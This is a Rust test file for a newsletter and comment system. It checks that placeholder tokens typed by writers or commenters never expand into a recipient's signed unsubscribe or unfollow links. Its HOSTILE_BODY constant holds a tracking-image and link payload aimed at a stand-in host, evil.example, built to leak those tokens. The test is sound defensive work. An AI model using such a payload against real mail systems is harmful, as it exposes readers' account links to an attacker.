//! A reader's own links in mail go only where Dateline puts them: text a
//! writer or commenter typed — placeholders included, in an image address,
//! a link or plain words — never pulls in a recipient's manage or stop
//! links. Delivered to an SMTP server on loopback and parsed as MIME: the
//! text part, the HTML part and the headers, for a newsletter and for a
//! comment's notification, on SQLite and PostgreSQL.

use crate::support::TestApp;
use axum::http::StatusCode;
use chrono::Utc;
use dateline_db::both_databases;
use dateline_db::follows::{self, FollowKind, FollowRequest};
use dateline_db::sends::{self, SendMode};
use dateline_db::testing::TestDb;
use dateline_mail::test_smtp::{Received, TestSmtp};
use mail_parser::{Message, MessageParser};

/// Every placeholder the old design filled in, in the places an author or
/// commenter can put text.
const HOSTILE_BODY: &str = "Figures for the week. ![chart](https://evil.example/p.gif?u=%%PREFERENCES%%&v=%%UNSUBSCRIBE%%&w=%%UNFOLLOW%%&x=%%UNFOLLOW_ALL%%)\n\n\
    Write to [the desk](https://evil.example/c?u=%%UNSUBSCRIBE%%&f=%%UNFOLLOW_ALL%%) with questions.\n\n\
    Plain words: %%PREFERENCES%% %%UNSUBSCRIBE%% %%UNFOLLOW%% %%UNFOLLOW_ALL%%.";

fn parse(r: &Received) -> Message<'static> {
    MessageParser::default()
        .parse(&r.data[..])
        .expect("a MIME message")
        .into_owned()
}

/// The message's header lines (unfolded), as sent.
fn headers(r: &Received) -> Vec<String> {
    let text = r.text();
    let head = text.split("\r\n\r\n").next().unwrap_or_default();
    let mut lines: Vec<String> = Vec::new();
    for line in head.split("\r\n") {
        match lines.last_mut() {
            Some(last) if line.starts_with([' ', '\t']) => last.push_str(line.trim_start()),
            _ => lines.push(line.to_owned()),
        }
    }
    lines
}

/// The signed token in a link to one of our pages: the path segment after
/// `prefix`.
fn token_after(url: &str, prefix: &str) -> String {
    let rest = url
        .split(prefix)
        .nth(1)
        .unwrap_or_else(|| panic!("{prefix} not in {url}"));
    rest.split(['/', '>', ',', ' ', '"'])
        .next()
        .unwrap_or_default()
        .to_owned()
}

/// Checks that `token` appears in the text part only on `text_lines` (lines
/// starting so), in the HTML part only in the hrefs of links labelled
/// `html_labels`, and in no header but List-Unsubscribe.
fn only_in_our_slots(
    r: &Received,
    m: &Message<'_>,
    token: &str,
    text_lines: &[&str],
    html_labels: &[&str],
) {
    let text = m.body_text(0).expect("a text part").into_owned();
    let holding: Vec<&str> = text.lines().filter(|l| l.contains(token)).collect();
    assert_eq!(holding.len(), text_lines.len(), "{token} in:\n{text}");
    for (line, start) in holding.iter().zip(text_lines) {
        assert!(line.starts_with(start), "{line:?} is not our {start:?}");
    }

    let html = m.body_html(0).expect("an HTML part").into_owned();
    assert_eq!(
        html.matches(token).count(),
        html_labels.len(),
        "{token} in:\n{html}"
    );
    let doc = scraper::Html::parse_document(&html);
    let all = scraper::Selector::parse("*").unwrap();
    let mut carriers = Vec::new();
    for e in doc.select(&all) {
        if e.value().attrs().any(|(_, v)| v.contains(token)) {
            assert_eq!(e.value().name(), "a", "{}", e.html());
            assert!(
                e.value().attr("href").is_some_and(|h| h.contains(token)),
                "{}",
                e.html()
            );
            carriers.push(e.text().collect::<String>());
        }
    }
    assert_eq!(carriers, html_labels, "{html}");

    for h in headers(r) {
        if !h.to_ascii_lowercase().starts_with("list-unsubscribe:") {
            assert!(!h.contains(token), "{token} in the header {h}");
        }
    }
}

async fn a_newsletter_gives_each_reader_only_their_own_links(t: TestDb) {
    let app = TestApp::new(t).await;
    let smtp = TestSmtp::start().await.unwrap();
    let article = app
        .add("Grain prices rise", |i| i.body = HOSTILE_BODY.into())
        .await;
    app.subscribe_confirmed(&["mariam@readers.test", "yusuf@readers.test"])
        .await;
    sends::send_article(
        &app.db.db,
        article,
        "Grain prices rise",
        SendMode::First,
        &dateline_core::audit::Who::cli(""),
        Utc::now(),
    )
    .await
    .unwrap()
    .unwrap();
    app.deliver_to(Some(&smtp.url())).await;
    let received = smtp.received();
    assert_eq!(received.len(), 2);
    let mut tokens = Vec::new();
    for r in &received {
        let m = parse(r);
        let list = m
            .header_raw("List-Unsubscribe")
            .expect("List-Unsubscribe")
            .replace(['\r', '\n'], "");
        let token = token_after(&list, "http://news.test/newsletter/");
        assert!(token.len() > 10, "{list}");
        only_in_our_slots(
            r,
            &m,
            &token,
            &["Preferences: ", "Unsubscribe: "],
            &["Your preferences", "Unsubscribe"],
        );
        // What the writer typed is left as they typed it.
        let text = m.body_text(0).unwrap().into_owned();
        assert!(
            text.contains(
                "Plain words: %%PREFERENCES%% %%UNSUBSCRIBE%% %%UNFOLLOW%% %%UNFOLLOW_ALL%%."
            ),
            "{text}"
        );
        tokens.push(token);
    }
    assert_ne!(tokens[0], tokens[1], "each reader has their own links");
    for (r, other) in received.iter().zip(tokens.iter().rev()) {
        assert!(!r.text().contains(other.as_str()), "a neighbour's link");
    }
}

async fn a_notification_gives_each_follower_only_their_own_links(t: TestDb) {
    let app = TestApp::new(t).await;
    let smtp = TestSmtp::start().await.unwrap();
    let article = app.add("Clinic opens in Tal Afar", |_| {}).await;
    app.relaxed_comments(|_| {}).await;
    for email in ["huda@readers.test", "sami@readers.test"] {
        follows::follow(
            &app.db.db,
            &FollowRequest {
                email,
                article,
                kind: FollowKind::All,
                comment_id: None,
                proven: true,
            },
            Utc::now(),
            |_| None,
        )
        .await
        .unwrap();
    }
    let token = app.comment_token().await;
    let r = app
        .post_form(
            "/clinic-opens-in-tal-afar/comments",
            &[
                ("body", HOSTILE_BODY),
                ("name", "Visitor %%UNFOLLOW%%"),
                ("email", "visitor@elsewhere.test"),
                ("token", &token),
            ],
            &[("accept", "application/json")],
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    app.deliver_to(Some(&smtp.url())).await;
    let received = smtp.received();
    assert_eq!(received.len(), 2);
    for r in &received {
        let m = parse(r);
        let list = m
            .header_raw("List-Unsubscribe")
            .expect("List-Unsubscribe")
            .replace(['\r', '\n'], "");
        let unfollow = token_after(&list, "http://news.test/comments/follow/");
        only_in_our_slots(
            r,
            &m,
            &unfollow,
            &["Stop notifications for this article: "],
            &["Stop notifications for this article"],
        );
        let text = m.body_text(0).unwrap().into_owned();
        let stop_all_line = text
            .lines()
            .find(|l| l.starts_with("Stop all comment notifications: "))
            .expect("our stop-all line");
        let stop_all = token_after(stop_all_line, "http://news.test/comments/follow/all/");
        assert!(stop_all.len() > 10, "{stop_all_line}");
        only_in_our_slots(
            r,
            &m,
            &stop_all,
            &["Stop all comment notifications: "],
            &["Stop all comment notifications"],
        );
        assert!(
            text.contains(
                "Plain words: %%PREFERENCES%% %%UNSUBSCRIBE%% %%UNFOLLOW%% %%UNFOLLOW_ALL%%."
            ),
            "{text}"
        );
        assert_eq!(
            m.subject(),
            Some("New comment by Visitor %%UNFOLLOW%% on “Clinic opens in Tal Afar”")
        );
    }
}

both_databases!(
    a_newsletter_gives_each_reader_only_their_own_links,
    a_notification_gives_each_follower_only_their_own_links,
);
